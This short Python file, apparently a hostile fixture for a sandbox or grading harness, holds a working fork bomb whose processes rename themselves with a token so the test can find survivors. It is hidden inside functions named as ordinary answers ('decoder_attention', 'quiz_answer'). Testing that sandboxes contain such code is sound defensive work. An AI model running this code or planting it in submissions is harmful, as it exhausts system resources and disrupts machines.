"""Hostile: fork until the process limit, every child forking too and spinning (named, so that the test
can look for survivors)."""
import ctypes
import os
import time

PARAMS = {}


def _name():
    ctypes.CDLL(None).prctl(15, PARAMS["token"].encode()[:15], 0, 0, 0)  # PR_SET_NAME


def _bomb():
    _name()
    while True:
        try:
            os.fork()
            _name()
        except OSError:
            time.sleep(0.001)


def decoder_attention(s, H, return_weights=False):
    _bomb()


def quiz_answer():
    _bomb()
